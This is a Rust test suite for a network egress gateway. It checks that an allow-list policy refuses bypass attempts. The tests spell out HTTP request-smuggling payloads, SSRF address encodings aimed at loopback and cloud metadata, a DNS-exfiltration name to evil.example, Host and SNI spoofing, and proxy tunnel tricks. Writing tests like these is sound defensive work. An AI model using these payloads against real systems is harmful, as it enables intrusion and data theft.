//! Ways round the policy.

use crate::place::within;
use crate::world::{OK, PROXY, SERVER, ask, connect, exchange, heard, serve, text, world};
use aido_gateway::{Reason, What};
use serde_json::json;
use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::time::Duration;

fn web() -> serde_json::Value {
    json!({"hosts": [
        {"host": "a.example.com", "ports": [80], "methods": ["GET", "POST"], "paths": ["/ok/**"]},
        {"host": "b.example.com", "ports": [443, 8443]},
    ]})
}

within! {
    fn an_address_is_refused_in_every_spelling() {
        let world = world(web());
        let heard = heard(&format!("{SERVER}:80"), OK);
        for address in ["93.184.215.14", "169.254.169.254", "127.0.0.1", "10.0.0.1", "8.8.8.8", "93.184.215.99", "198.18.7.7", "0.0.0.0", "::1", "::ffff:169.254.169.254", "fd00:ec2::254"] {
            let Ok(stream) = TcpStream::connect((address, 80)) else { assert!(address.contains(':'), "{address}"); continue };
            let said = exchange(stream, "GET / HTTP/1.1\r\nHost: a.example.com\r\n\r\n");
            assert!(said.starts_with("HTTP/1.1 403") && said.contains("aido: policy refused") && said.contains("do not retry"), "{address}: {said}");
        }
        for spelling in ["2130706433", "0x7f000001", "0177.0.0.1", "127.1"] {
            // The C library makes addresses of these; they go the same way.
            let Ok(stream) = TcpStream::connect((spelling, 80)) else { continue };
            assert!(exchange(stream, "GET / HTTP/1.1\r\nHost: x\r\n\r\n").starts_with("HTTP/1.1 403"), "{spelling}");
        }
        assert!(text(&heard).is_empty() && world.names.asked().is_empty());
        let classes = world.events().into_iter().filter(|event| matches!(&event.what, What::Connection { decision, .. } if matches!(decision.reason, Some(Reason::Private { .. })))).count();
        assert!(classes >= 4, "{classes}");
    }
}

within! {
    fn a_tls_client_at_an_address_gets_an_alert() {
        let _world = world(web());
        let mut stream = TcpStream::connect(("8.8.8.8", 443)).unwrap();
        stream.write_all(&[22, 3, 1, 0, 5, 1, 0, 0, 1, 0]).unwrap();
        let mut alert = Vec::new();
        let _ = stream.read_to_end(&mut alert);
        assert_eq!(alert, [21, 3, 3, 0, 2, 2, 49]);
    }
}

within! {
    fn names_are_no_channel() {
        let world = world(web());
        let stolen = "c2VjcmV0LWJ5dGVz.evil.example";
        assert!(connect(stolen, 80).is_err());
        let deep = format!("{}.a.example.com", "x".repeat(60));
        assert!(connect(&deep, 80).is_err());
        // Servers of names elsewhere: by UDP nobody is there, by TCP nobody is either.
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        socket.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
        socket.connect("8.8.8.8:53").unwrap();
        let _ = socket.send(b"anything");
        assert!(socket.recv(&mut [0; 100]).is_err());
        assert!(TcpStream::connect(("8.8.8.8", 53)).is_err());
        assert!(world.names.asked().is_empty());
        assert!(world.refusals().iter().any(|words| words.contains(&stolen.to_lowercase())), "{:?}", world.refusals());
    }
}

within! {
    fn a_name_that_leads_inside_is_not_followed() {
        let world = world(web());
        let secret = heard("127.0.0.7:80", "HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nsecret");
        for wrong in ["127.0.0.7", "93.184.215.14 127.0.0.7", "10.1.2.3", "169.254.169.254", "::ffff:127.0.0.7", "64:ff9b::7f00:7", "100.64.0.1", "0.0.0.0"] {
            world.names.is("a.example.com", wrong);
            let said = ask(connect("a.example.com", 80).unwrap(), "GET /ok/x HTTP/1.1\r\nHost: a.example.com\r\n\r\n");
            assert!(said.starts_with("HTTP/1.1 403") && said.contains("leads to"), "{wrong}: {said}");
        }
        assert!(text(&secret).is_empty());
        world.until("a refusal that names the line", |what| matches!(what, What::Refused { decision, .. } if decision.allow.as_deref().is_some_and(|line| line.contains("private: true"))));
    }
}

within! {
    fn every_request_is_judged_and_a_refusal_ends_the_connection() {
        let world = world(web());
        let server = heard(&format!("{SERVER}:80"), OK);
        let get = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: a.example.com\r\n\r\n");
        // The second is refused; the third was sent ahead and must not be looked at.
        let said = ask(connect("a.example.com", 80).unwrap(), get("/ok/1") + &get("/no") + &get("/ok/3"));
        assert!(said.starts_with("HTTP/1.1 200") && said.contains("HTTP/1.1 403"), "{said}");
        assert_eq!(said.matches("HTTP/1.1 ").count(), 2, "{said}");
        let heard = text(&server);
        assert!(heard.contains("GET /ok/1 ") && !heard.contains("/no") && !heard.contains("/ok/3"), "{heard}");
        for path in ["/ok/../no", "/ok/%2e%2e/no", "//no", "/ok//x", "/ok%2f..%2fno", "/ok/..;/no", "/ok/%252e%252e/no", "/OK/x", "/ok\\..\\no"] {
            let said = ask(connect("a.example.com", 80).unwrap(), get(path));
            assert!(said.starts_with("HTTP/1.1 40"), "{path}: {said}");
        }
        assert_eq!(text(&server).matches("GET ").count(), 1);
        assert!(world.events().iter().any(|event| matches!(&event.what, What::Request { path, decision, .. } if path == "/no" && !decision.allowed)));
    }
}

within! {
    fn no_request_is_smuggled() {
        let _world = world(web());
        let server = heard(&format!("{SERVER}:80"), OK);
        let hidden = "GET /no/secret HTTP/1.1\r\nHost: a.example.com\r\n\r\n";
        let length = hidden.len() + 5;
        let attacks = [
            // Two lengths, a length and chunks in either order, and the many ways to write "chunked" so that one side does not see it.
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: 0\r\nContent-Length: {length}\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding: chunked\r\nContent-Length: {length}\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: +0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: 0,{length}\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: 0x0\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n{hidden}"),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nZ\r\nQ{hidden}"),
            format!("POST /ok/x HTTP/1.0\r\nHost: a.example.com\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}"),
            // A line feed that some take for the end of a line, in a name, a value, a target.
            format!("GET /ok/x HTTP/1.1\r\nHost: a.example.com\r\nX: y\rContent-Length: 3\r\n\r\n{hidden}"),
            format!("GET /ok/x HTTP/1.1\r\nHost: a.example.com\r\nX: y\nX-Two: {hidden}"),
            format!("GET /ok/x\x00 HTTP/1.1\r\nHost: a.example.com\r\n\r\n{hidden}"),
            format!("GET /ok/x HTTP/1.1 {hidden}"),
            // A wish of the connection that takes away what frames the message.
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nConnection: content-length\r\nContent-Length: {}\r\n\r\n{hidden}", hidden.len()),
            format!("POST /ok/x HTTP/1.1\r\nHost: a.example.com\r\nConnection: transfer-encoding, host\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len()),
            format!("GET /ok/x HTTP/1.1\r\nHost: a.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n{hidden}"),
        ];
        for attack in &attacks {
            ask_briefly(attack);
        }
        // Whatever was passed on is read again as a strict server reads it: no request but to /ok/x is in it.
        let heard = text(&server);
        for request in requests(&heard) {
            assert!(request.starts_with("POST /ok/x ") || request.starts_with("GET /ok/x "), "smuggled: {request:?}\nin {heard}");
        }
        assert!(!heard.contains("h2c"), "{heard}");
    }
}

/// Some attacks leave the gateway waiting for more; half a second is enough to see what it passes on.
fn ask_briefly(bytes: &str) {
    let mut stream = connect("a.example.com", 80).unwrap();
    stream.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    let _ = stream.write_all(bytes.as_bytes());
    let mut all = Vec::new();
    let _ = stream.read_to_end(&mut all);
}

/// The first lines of requests in what a server heard, bodies skipped by their framing.
fn requests(mut heard: &str) -> Vec<String> {
    let mut lines = Vec::new();
    while let Some((head, rest)) = heard.split_once("\r\n\r\n") {
        lines.push(head.lines().next().unwrap_or_default().to_owned());
        let header = |name: &str| {
            head.lines()
                .find_map(|line| line.to_ascii_lowercase().strip_prefix(name).map(|value| value.trim().to_owned()))
        };
        heard = match (header("transfer-encoding:"), header("content-length:")) {
            (Some(_), length) => {
                assert!(length.is_none(), "both framings: {head}");
                rest.split_once("0\r\n\r\n").map_or("", |(_, behind)| behind)
            }
            (None, Some(length)) => rest.get(length.parse().unwrap()..).unwrap_or(""),
            (None, None) => rest,
        };
    }
    lines
}

within! {
    fn a_host_cannot_be_hidden_behind_another() {
        let world = world(web());
        let server = heard(&format!("{SERVER}:80"), OK);
        let wrong = [
            "GET /ok/x HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            "GET /ok/x HTTP/1.1\r\nHost: a.example.com\r\nHost: evil.example\r\n\r\n",
            "GET /ok/x HTTP/1.1\r\nHost: a.example.com, evil.example\r\n\r\n",
            "GET /ok/x HTTP/1.1\r\nHost: a.example.com@evil.example\r\n\r\n",
            "GET /ok/x HTTP/1.1\r\nHost: a.example.com:8080\r\n\r\n",
            "GET http://evil.example/ok/x HTTP/1.1\r\nHost: a.example.com\r\n\r\n",
            "GET http://a.example.com@evil.example/ok/x HTTP/1.1\r\nHost: a.example.com\r\n\r\n",
            "GET https://a.example.com/ok/x HTTP/1.1\r\nHost: a.example.com\r\n\r\n",
            "GET /ok/x HTTP/1.1\r\n\r\n",
            "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
            "CONNECT a.example.com:80 HTTP/1.1\r\nHost: a.example.com:80\r\n\r\n",
            "OPTIONS * HTTP/1.1\r\nHost: a.example.com\r\n\r\n",
        ];
        for request in wrong {
            let said = ask(connect("a.example.com", 80).unwrap(), request);
            assert!(said.starts_with("HTTP/1.1 40"), "{request:?}: {said}");
        }
        assert!(text(&server).is_empty(), "{}", text(&server));
        // The same by absolute form, and nothing but the path is passed on.
        let said = ask(connect("a.example.com", 80).unwrap(), "GET http://A.example.com:80/ok/x?q=1 HTTP/1.1\r\nHost: a.EXAMPLE.com\r\nConnection: close\r\n\r\n");
        assert!(said.starts_with("HTTP/1.1 200"), "{said}");
        assert!(text(&server).starts_with("GET /ok/x?q=1 HTTP/1.1\r\nhost: a.example.com\r\n"), "{}", text(&server));
        let query = world.until("the request", |what| matches!(what, What::Request { query: Some(_), .. }));
        assert!(!format!("{query:?}").contains("q=1"), "a query is told as a digest: {query:?}");
    }
}

fn hello(name: Option<&str>, more: &[u8]) -> Vec<u8> {
    let sni = name.map(|name| {
        let n = name.len() as u8;
        [&[0, 0, 0, n + 5, 0, n + 3, 0, 0, n][..], name.as_bytes()].concat()
    });
    let extensions = [sni.unwrap_or_default(), more.to_vec()].concat();
    let body =
        [&[3, 3][..], &[1; 32], &[0, 0, 2, 0x13, 1, 1, 0], &(extensions.len() as u16).to_be_bytes(), &extensions]
            .concat();
    let message = [&[1, 0][..], &(body.len() as u16).to_be_bytes(), &body].concat();
    [&[22, 3, 1][..], &(message.len() as u16).to_be_bytes(), &message].concat()
}

within! {
    fn tls_to_another_name_is_not_passed_on() {
        let world = world(web());
        for port in [443, 8443] {
            serve(&format!("93.184.215.15:{port}"), |mut stream| {
                let mut buffer = [0; 4096];
                let count = stream.read(&mut buffer).unwrap_or(0);
                let _ = stream.write_all(format!("heard {count}").as_bytes());
            });
        }
        let good = hello(Some("B.example.com"), &[]);
        let passed = format!("heard {}", good.len());
        assert_eq!(exchange(connect("b.example.com", 443).unwrap(), &good), passed);
        assert_eq!(exchange(connect("b.example.com", 8443).unwrap(), &good), passed);
        let hidden = [0xfe, 0x0d, 0, 2, 0, 0];
        let alert = String::from_utf8_lossy(&[21, 3, 3, 0, 2, 2, 49]).into_owned();
        let wrong = [hello(Some("evil.example"), &[]), hello(Some("b.example.com.evil.example"), &[]), hello(Some("b.example.com"), &hidden)];
        for (port, wrong) in [443, 8443].into_iter().flat_map(|port| wrong.iter().map(move |w| (port, w))) {
            assert_eq!(exchange(connect("b.example.com", port).unwrap(), wrong), alert, "{port} {wrong:?}");
        }
        for other in [hello(None, &[]), b"SSH-2.0-OpenSSH\r\n".to_vec(), b"GET / HTTP/1.1\r\nHost: b.example.com\r\n\r\n".to_vec(), good[..20].to_vec()] {
            assert!(!exchange(connect("b.example.com", 443).unwrap(), &other).contains("heard"), "{other:?}");
        }
        // Cut into single bytes it is still the same name.
        let mut stream = connect("b.example.com", 443).unwrap();
        stream.set_nodelay(true).unwrap();
        for byte in &good {
            stream.write_all(&[*byte]).unwrap();
        }
        assert_eq!(exchange(stream, ""), passed);
        world.until("the other name", |what| matches!(what, What::Refused { decision, .. } if decision.reason == Some(Reason::OtherName { inside: "evil.example".into() })));
    }
}

fn proxy() -> TcpStream {
    let stream = TcpStream::connect(("127.0.0.1", PROXY)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    stream
}

within! {
    fn the_proxy_is_no_other_way_out() {
        let world = world(web());
        let server = heard(&format!("{SERVER}:80"), OK);
        for target in ["evil.example:443", "169.254.169.254:80", "127.0.0.1:80", "[::1]:80", "[::ffff:127.0.0.1]:80", "0x7f.1:80", "a.example.com:22", "a.example.com", "user@a.example.com:80", "8.8.8.8:443"] {
            let said = ask(proxy(), format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"));
            assert!(said.starts_with("HTTP/1.1 40"), "{target}: {said}");
        }
        for target in ["http://evil.example/", "http://a.example.com/no", "https://b.example.com/", "ftp://a.example.com/", "/ok/x", "http://b.example.com:443/", "http://127.0.0.1/"] {
            let said = ask(proxy(), format!("GET {target} HTTP/1.1\r\nHost: a.example.com\r\n\r\n"));
            assert!(said.starts_with("HTTP/1.1 40"), "{target}: {said}");
        }
        assert!(text(&server).is_empty());
        let said = ask(proxy(), "GET http://a.example.com/ok/x HTTP/1.1\r\nHost: a.example.com\r\nProxy-Authorization: Basic eA==\r\nConnection: close\r\n\r\n");
        assert!(said.starts_with("HTTP/1.1 200"), "{said}");
        assert!(!text(&server).to_lowercase().contains("proxy"));
        // In a tunnel the rule counts as well, and a tunnel within it is none.
        let inner = "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n";
        let said = ask(proxy(), format!("CONNECT a.example.com:80 HTTP/1.1\r\nHost: a.example.com:80\r\n\r\n{inner}"));
        assert!(said.starts_with("HTTP/1.1 200") && said.contains("tunnels within a connection"), "{said}");
        let said = ask(proxy(), "CONNECT a.example.com:80 HTTP/1.1\r\nHost: a.example.com:80\r\n\r\nGET /no HTTP/1.1\r\nHost: a.example.com\r\n\r\n");
        assert!(said.contains("HTTP/1.1 403"), "{said}");
        let said = ask(proxy(), "CONNECT a.example.com:80 HTTP/1.1\r\nHost: a.example.com:80\r\n\r\nGET /ok/y HTTP/1.1\r\nHost: a.example.com\r\nConnection: close\r\n\r\n");
        assert!(said.ends_with("ok"), "{said}");
        assert!(text(&server).contains("GET /ok/y ") && !text(&server).contains("CONNECT"));
        world.until("a connection by the proxy", |what| matches!(what, What::Connection { proxy: true, decision, .. } if decision.allowed));
    }
}

within! {
    fn a_redirect_is_judged_like_any_other_request() {
        let world = world(web());
        serve(&format!("{SERVER}:80"), |mut stream| {
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/\r\nAlt-Svc: h3=\"evil.example:443\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        });
        let said = ask(connect("a.example.com", 80).unwrap(), "GET /ok/x HTTP/1.1\r\nHost: a.example.com\r\nConnection: close\r\n\r\n");
        assert!(said.starts_with("HTTP/1.1 302") && !said.to_lowercase().contains("alt-svc"), "{said}");
        let said = ask(connect("169.254.169.254", 80).unwrap(), "GET /latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n");
        assert!(said.starts_with("HTTP/1.1 403") && said.contains("metadata"), "{said}");
        drop(world);
    }
}

within! {
    fn when_the_gateway_is_gone_nothing_gets_through() {
        let world = world(json!({"any": true}));
        serve(&format!("{SERVER}:22"), |mut stream| { let _ = stream.write_all(b"here"); let _ = stream.read(&mut [0; 9]); });
        let mut held = connect("a.example.com", 22).unwrap();
        let mut said = [0; 4];
        held.read_exact(&mut said).unwrap();
        let memory = world.memory.clone();
        world.gateway.stop();
        assert!(matches!(held.read(&mut said), Ok(0) | Err(_)));
        assert!(connect("a.example.com", 22).is_err(), "no names, no connection");
        assert!(TcpStream::connect(("198.18.0.1", 22)).is_err());
        let ends = memory.events().iter().filter(|event| matches!(event.what, What::Ended { .. })).count();
        assert_eq!(ends, 1, "its end is on record: {:#?}", memory.events());
    }
}
